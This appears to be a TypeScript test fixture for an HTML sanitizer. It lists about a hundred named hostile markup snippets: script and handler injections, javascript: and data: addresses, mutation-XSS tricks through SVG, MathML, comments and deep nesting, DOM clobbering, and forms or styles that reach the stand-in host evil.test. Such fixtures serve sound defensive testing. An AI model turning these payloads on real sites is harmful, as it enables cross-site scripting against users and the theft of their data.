/** Hostile markup of our own collection, each by what it tries; a script that was run leaves the name `broken`, a request is to evil.test. */

export const hostileMarkup: Readonly<Record<string, string>> = {
  'a script': '<script>window.broken = 1</script>',
  'a script cut in two': '<scr<script>ipt>window.broken = 1</scr</script>ipt>',
  'an image with a handler': '<img src=x onerror="window.broken = 1">',
  'an image without a space': '<img/src="https://evil.test/x"/onload=window.broken=1>',
  'image sets':
    '<picture><source srcset="https://evil.test/a"><img srcset="https://evil.test/b 2x" src="https://evil.test/c"></picture>',
  'an SVG with a handler': '<svg onload="window.broken = 1"><image href="https://evil.test/x"/></svg>',
  'a script in an SVG': '<svg><script>window.broken = 1</script><a xlink:href="javascript:window.broken=1">go</a></svg>',
  'a style in an SVG': '<svg><style><img src=x onerror="window.broken = 1"></style></svg>',
  'mutation by MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.broken=1&gt;">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=window.broken=1>">',
  'mutation by a form in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>',
  'a frame with a document': '<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>',
  'a frame with a script address': '<iframe src="javascript:parent.broken=1"></iframe>',
  'an object and an embed': '<object data="https://evil.test/x"></object><embed src="https://evil.test/y">',
  'a handler on a paragraph': '<p onclick="window.broken = 1" onmouseover="window.broken = 1">Tap here</p>',
  'a handler that focuses itself': '<input autofocus onfocus="window.broken = 1"><select autofocus onfocus="window.broken = 1">',
  'a handler on opening': '<details open ontoggle="window.broken = 1"><summary>More</summary></details>',
  'a video with a handler': '<video src=x onerror="window.broken = 1"><source onerror="window.broken = 1"></video>',
  'a script address': '<a href="javascript:window.broken=1">go</a>',
  'a script address with a line break': '<a href="java\nscript:window.broken=1">go</a>',
  'a script address after a control character': '<a href="\u0001javascript:window.broken=1">go</a>',
  'a script address in entities': '<a href="&#106;avascript&colon;window.broken=1">go</a>',
  'a data address': '<a href="data:text/html,<script>opener.broken=1</script>">go</a>',
  'a VBScript, a file and a blob address':
    '<a href="vbscript:x">a</a><a href="file:///etc">b</a><a href="blob:https://evil.test/1">c</a>',
  'an address without a protocol': '<a href="//evil.test/x">go</a><a href="/connection">go</a>',
  'an address with a user': '<a href="https://bank.example@evil.test/">go</a>',
  'a link that keeps its opener': '<a href="https://news.example.test/x" target="_top" rel="opener">go</a>',
  'a form':
    '<form action="https://evil.test/"><input name=key><button formaction="javascript:window.broken=1">Send</button></form>',
  'a style for the page': '<style>body { display: none } @import "https://evil.test/x.css"</style>',
  'a style on an element': '<div style="position:fixed;inset:0;background:url(https://evil.test/x)">Cover</div>',
  'a stylesheet and a base': '<link rel=stylesheet href="https://evil.test/x.css"><base href="https://evil.test/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  'names that hide others': '<a id=config></a><a id=config name=location></a><form name=body><input name=attributes></form>',
  'backgrounds of a table':
    '<table background="https://evil.test/a"><tr><td background="https://evil.test/b">1</td></tr></table>',
  'classes, data and ARIA of the app':
    '<div class="page" data-x=1 aria-hidden=true role=alert tabindex=0 contenteditable hidden>x</div>',
  'a template and a custom element':
    '<template><script>window.broken=1</script></template><x-app is="x" onclick="window.broken=1">x</x-app>',
  'a script with an address':
    '<script src="https://evil.test/x.js"></script><script src="//evil.test/y.js" async defer></script>',
  'a script in capitals, with a slash': '<SCRIPT/x>window.broken = 1</SCRIPT ><sCrIpT>window.broken = 1</ScRiPt>',
  'a module and an import map':
    '<script type=module>window.broken=1</script><script type=importmap>{"imports":{"react":"https://evil.test/r.js"}}</script>',
  'speculation rules': '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/x"]}]}</script>',
  'a script never closed': '<script>window.broken = 1',
  'a script after a null byte': '<scr\0ipt>window.broken=1</scr\0ipt><\0script>window.broken=1</script>',
  'a tag never closed': '<img src=x onerror="window.broken=1" ',
  'a quote never closed': '<p title="></p><img src=x onerror=window.broken=1>',
  'doubled brackets': '<<img src=x onerror=window.broken=1>><<script>window.broken=1//<</script>',
  'an image spelt image': '<image src="https://evil.test/x" onerror="window.broken=1">',
  'an image with a handler parted by a form feed': '<img\fsrc=x\fonerror=window.broken=1>',
  'an image with a handler in back quotes': '<img src=`x` onerror=`window.broken=1`><img src="`` onerror=window.broken=1">',
  'an image with a handler twice': '<img src=x onerror="" onerror="window.broken=1">',
  'an image that names its own policy':
    '<img src="https://evil.test/x" referrerpolicy=unsafe-url crossorigin=use-credentials loading=eager>',
  'an image map': '<map name=m><area shape=default href="javascript:window.broken=1"></map><img usemap="#m" src=x>',
  'a lazy frame': '<iframe loading=lazy src="https://evil.test/x" onload="window.broken=1"></iframe>',
  'a frame in a frame': '<iframe srcdoc="&lt;iframe srcdoc=&#39;<script>top.broken=1</script>&#39;>"></iframe>',
  'a frameset': '<frameset onload="window.broken=1"><frame src="https://evil.test/x"></frameset>',
  'a portal and a fenced frame':
    '<portal src="https://evil.test/x"></portal><fencedframe src="https://evil.test/y"></fencedframe>',
  'an object of data': '<object data="data:text/html,<script>parent.broken=1</script>" type="text/html"></object>',
  'an applet and its parameters':
    '<applet code=x codebase="https://evil.test/"><param name=src value="https://evil.test/"></applet>',
  'sound with a handler': '<audio src=x onerror="window.broken=1" autoplay></audio><bgsound src="https://evil.test/x">',
  'a poster and a track': '<video poster="https://evil.test/p"><track src="https://evil.test/t" default></video>',
  'an SVG animation of an address':
    '<svg><a><animate attributeName=href values="javascript:window.broken=1"/><text>go</text></a></svg>',
  'an SVG animation that begins': '<svg><animate onbegin="window.broken=1" attributeName=x dur=1s></svg>',
  'an SVG that sets a handler': '<svg><set attributeName=onmouseover to="window.broken=1"/><rect width=9 height=9></svg>',
  'an SVG that uses another': '<svg><use href="https://evil.test/x.svg#a"/><use href="data:image/svg+xml,<svg id=a/>#a"/></svg>',
  'an SVG with foreign content':
    '<svg><foreignObject><body onload="window.broken=1"><iframe src="https://evil.test/x"></iframe></body></foreignObject></svg>',
  'an SVG with its own entity': '<svg><desc><![CDATA[</desc><script>window.broken=1</script>]]></desc></svg>',
  'an SVG with a filter from elsewhere': '<svg><filter><feImage href="https://evil.test/f"/></filter></svg>',
  'MathML with an address': '<math href="javascript:window.broken=1"><mi xlink:href="javascript:window.broken=1">x</mi></math>',
  'MathML with foreign content':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.broken=1></annotation-xml></math>',
  'mutation by a comment': '<!--><img src=x onerror=window.broken=1>--><!--!><script>window.broken=1</script>-->',
  'mutation by a comment that ends oddly': '<!-- --!><img src=x onerror=window.broken=1> -->',
  'mutation by a conditional comment': '<!--[if gte IE 4]><script>window.broken=1</script><![endif]-->',
  'mutation by CDATA':
    '<![CDATA[<img src=x onerror=window.broken=1>]]><svg><![CDATA[><image xlink:href="]]><img src=x onerror=window.broken=1>"></svg>',
  'mutation by a title': '<svg><title><style><!--</style></title><img src="--><img src=x onerror=window.broken=1>"></svg>',
  'mutation by a text area': '<textarea><img title="</textarea><img src=x onerror=window.broken=1>"></textarea>',
  'mutation by plain text': '<xmp><p title="</xmp><img src=x onerror=window.broken=1>"></xmp><listing>&lt;img src=x></listing>',
  'mutation by frames that were never there': '<noframes><p id="</noframes><img src=x onerror=window.broken=1>"></noframes>',
  'mutation by a selection':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.broken=1>">',
  'mutation by a table': '<table><td><p><svg><td><desc></table><style><a title="</style><img src=x onerror=window.broken=1>">',
  'mutation by depth': `${'<div>'.repeat(600)}<img src=x onerror=window.broken=1>${'</div>'.repeat(600)}`,
  'mutation by depth of forms and tables': `${'<table><tr><td>'.repeat(170)}<svg><style><img src=x onerror=window.broken=1></style>${'</td></tr></table>'.repeat(170)}`,
  'a declarative shadow':
    '<div><template shadowrootmode=open><style>:host{position:fixed}</style><script>window.broken=1</script></template></div>',
  'a processing instruction':
    '<?xml-stylesheet href="javascript:window.broken=1"?><?import namespace=t implementation="https://evil.test/">',
  'a document type of its own': '<!doctype html [<!entity x "<script>window.broken=1</script>">]>&x;',
  'a whole document':
    '<html onload=x><head><title>Taken over</title></head><body onload="window.broken=1" onpageshow="window.broken=1">x</body></html>',
  'a script address with tabs in it':
    '<a href="jav&#x09;ascript:window.broken=1">go</a><a href=" \t\njavascript:window.broken=1">go</a>',
  'a script address in full width':
    '<a href="ｊａｖａｓｃｒｉｐｔ:window.broken=1">go</a><a href="javascript&#xFF1A;window.broken=1">go</a>',
  'a script address in capitals with a comment': '<a href="JaVaScRiPt://x%0Awindow.broken=1">go</a>',
  'a script address seen as text':
    '<a href="view-source:javascript:window.broken=1">a</a><a href="feed:javascript:window.broken=1">b</a>',
  'addresses of other kinds':
    '<a href="ftp://evil.test/">a</a><a href="tel:1">b</a><a href="intent://evil.test#Intent">c</a><a href="ms-word:ofe|u|x">d</a>',
  'addresses with back slashes': '<a href="\\\\evil.test">a</a><a href="https:\\\\evil.test">b</a><a href="/\\evil.test">c</a>',
  'an address that reports where it is':
    '<a href="https://news.example.test/" ping="https://evil.test/p" download attributionsrc>go</a>',
  'a letter with hidden headers': '<a href="mailto:a@news.example.test?bcc=b@evil.test" onclick="window.broken=1">write</a>',
  'a link around everything':
    '<a href="javascript:window.broken=1"><table><tr><td><a href="javascript:window.broken=1">go</a></td></tr></table></a>',
  'buttons for what is outside': '<button popovertarget=filters commandfor=filters command=close form=filters>x</button>',
  'an input that sends at once': '<form id=f></form><input form=f type=image src="https://evil.test/x" formaction="//evil.test">',
  'key fields that look like ours': '<label>API key <input type=password name=key></label><keygen name=x><output name=location>',
  'a dialog and a popover':
    '<dialog open>Sign in again</dialog><div popover id=p>x</div><details open name=x><summary>y</summary></details>',
  'a moving text': '<marquee onstart="window.broken=1" onfinish="window.broken=1" loop=1>x</marquee><blink>y</blink>',
  'a handler on an animation':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="window.broken=1">x</p>',
  'a handler on what is allowed':
    '<table onscroll="window.broken=1"><tr onpointerenter="window.broken=1"><td colspan=2 onfocus=x tabindex=1>1</td></tr></table>',
  'a style in capitals with escapes': '<p STYLE="b\\61ckground:u\\72l(https://evil.test/x)">x</p><font color=red face=x>y</font>',
  'a style sheet in a link to itself':
    '<link rel="preload" as=image href="https://evil.test/p"><link rel="dns-prefetch" href="//evil.test">',
  'a refresh and a policy':
    '<meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer content=unsafe-url>',
  'a slot and its part':
    '<slot name=x></slot><span slot=x part=y exportparts=z is="x-y" itemscope itemid="https://evil.test/">x</span>',
  'names of the document':
    '<img name=getElementById><form id=location><input id=href></form><a id=trustedTypes></a><object id=fetch></object>',
  'a language that reverses': '<p dir=rtl lang=ar>\u202eevil\u2066</p><bdo dir=rtl>x</bdo><p translate=no spellcheck=true>y</p>',
}
